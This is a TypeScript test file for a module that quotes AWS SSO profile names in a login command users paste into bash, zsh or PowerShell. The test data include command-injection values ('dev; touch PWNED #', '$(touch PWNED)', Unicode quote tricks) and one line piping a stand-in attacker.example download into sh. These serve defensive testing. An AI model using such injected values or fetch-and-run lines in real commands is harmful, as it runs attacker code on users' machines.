/**
 * The SSO login command a person pastes (src/model/shellQuote.ts, issue 13 finding 1.7): for every
 * name it accepts, the command is run through the real bash (and zsh when installed) with `aws`
 * defined as a shell function that prints its argv NUL-separated, which must be exactly
 * [sso, login, --profile, NAME]; an injected command must not run. PowerShell is not installed here: its rules are in the module's
 * header, and the names it would read differently are in the refusal set tested below.
 */
import * as assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { MAX_PROFILE_NAME, quoteShellWord, ssoLoginCommand } from '../../src/model/shellQuote';

/** A fake `aws` (a function, so the shell resolves it exactly as it would the CLI): argv, NUL-separated. */
const FAKE_AWS = 'aws() { printf \'%s\\0\' "$@"; }\n';

/** Runs `command` in `shell` -c with the fake aws, in `cwd`; returns the argv aws got. */
function argvOf(shell: string, command: string, cwd: string): string[] {
  const out = execFileSync(shell, ['-c', FAKE_AWS + command], {
    cwd,
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: cwd },
    encoding: 'utf8',
  });
  return out.split('\0').slice(0, -1);
}

/** A JSON title with non-ASCII escaped, so invisible characters stay visible in the report. */
function shown(name: string): string {
  const cut = name.length > 20 ? `${name.slice(0, 20)}…` : name;
  return JSON.stringify(cut).replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

function installed(shell: string): boolean {
  return spawnSync('sh', ['-c', `command -v ${shell}`]).status === 0;
}

/** Names that must come through every shell unchanged; each trips some shell when pasted raw. */
const ACCEPTED = [
  'default',
  'sso-profile',
  'prod.admin_2',
  'my team',
  'a  b',
  ' leading and trailing ',
  'dev; touch PWNED #',
  'dev && touch PWNED',
  'dev | touch PWNED',
  '(touch PWNED)',
  'a>PWNED',
  '<x',
  '~root',
  '=ls', // zsh expands a leading =word to a path
  '*',
  '?',
  '[ab]',
  '{a,b}',
  'x!y', // history expansion in interactive bash and zsh
  '#comment',
  '-x.y', // PowerShell splits a bare -x.y into two arguments
  '1.50', // PowerShell reads a bare number as a number
  '--%', // PowerShell's stop-parsing token when bare
  'a,b', // PowerShell's array operator when bare
  '@splat', // PowerShell splatting when bare
  'team:ml+dev=1/prod',
  '%PATH%',
  '^x',
  'a&b',
];

/** Names no quoting makes safe in all of bash, zsh and PowerShell, with a word of the reason. */
const REFUSED: [string, RegExp][] = [
  ["it's", /single quote/],
  ['a‘b', /U\+2018, a character outside printable ASCII/], // PowerShell: ‘ ’ ‚ ‛ end a single-quoted string
  ['a’b', /outside printable ASCII/],
  ['a‚b', /outside printable ASCII/],
  ['a‛b', /outside printable ASCII/],
  ['a“b”', /outside printable ASCII/],
  ['a–b', /outside printable ASCII/], // PowerShell reads an en dash as -
  ['a\u202eb', /outside printable ASCII/], // right-to-left override: shows a different command
  ['a\u00a0b', /outside printable ASCII/],
  ['a\u0085b', /U\+0085/],
  ['a"b', /double quote/],
  ['a\\b', /backslash/],
  ['a`b', /backtick/],
  ['a$b', /dollar sign/],
  ['$(touch PWNED)', /dollar sign/],
  ['dev\ntouch PWNED', /line break/],
  ['dev\rx', /line break/],
  ['a\tb', /control character/],
  ['a\u001b[31mb', /control character/],
  ['a\u007fb', /control character/],
  ['', /empty/],
  ['x'.repeat(MAX_PROFILE_NAME + 1), /longer than 128/],
];

describe('SSO login command quoting (src/model/shellQuote.ts)', function () {
  it('leaves plain names bare and single-quotes the others', function () {
    assert.deepEqual(ssoLoginCommand('sso-profile'), { ok: true, command: 'aws sso login --profile sso-profile' });
    assert.deepEqual(ssoLoginCommand('my team'), { ok: true, command: "aws sso login --profile 'my team'" });
    assert.deepEqual(ssoLoginCommand('dev; curl https://attacker.example/p | sh #'), {
      ok: true,
      command: "aws sso login --profile 'dev; curl https://attacker.example/p | sh #'",
    });
    assert.deepEqual(quoteShellWord('-x.y'), { ok: true, word: "'-x.y'" });
    assert.deepEqual(quoteShellWord('1.50'), { ok: true, word: "'1.50'" });
  });

  for (const [name, reason] of REFUSED) {
    it(`refuses ${shown(name)} with a reason`, function () {
      const r = ssoLoginCommand(name);
      assert.equal(r.ok, false);
      if (!r.ok) {
        assert.match(r.message, reason);
        assert.match(r.message, /cannot be pasted into bash, zsh and PowerShell safely/);
      }
    });
  }

  // bash is always there; zsh is installed by scripts/install-host.sh, and CI must have it.
  if (process.env.CI && !installed('zsh'))
    throw new Error('zsh is missing: scripts/install-host.sh installs it for the shell-quoting tests');
  const shells = ['bash', ...(installed('zsh') ? ['zsh'] : [])];
  for (const shell of shells) {
    it(`${shell} runs exactly aws sso login --profile NAME for every accepted name, and nothing injected`, function () {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'smi-sso-quote-'));
      for (const name of ACCEPTED) {
        const r = ssoLoginCommand(name);
        assert.ok(r.ok, `${JSON.stringify(name)} refused: ${r.ok ? '' : r.message}`);
        assert.deepEqual(argvOf(shell, r.command, dir), ['sso', 'login', '--profile', name], `${shell}: ${r.command}`);
      }
      assert.deepEqual(fs.readdirSync(dir), [], 'no injected command ran (no PWNED file)');
    });

    it(`${shell}: the unquoted command of old would have run the injected part (the check above can fail)`, function () {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'smi-sso-quote-'));
      assert.deepEqual(argvOf(shell, 'aws sso login --profile dev; touch PWNED #', dir), ['sso', 'login', '--profile', 'dev']);
      assert.ok(fs.existsSync(path.join(dir, 'PWNED')));
    });
  }
});
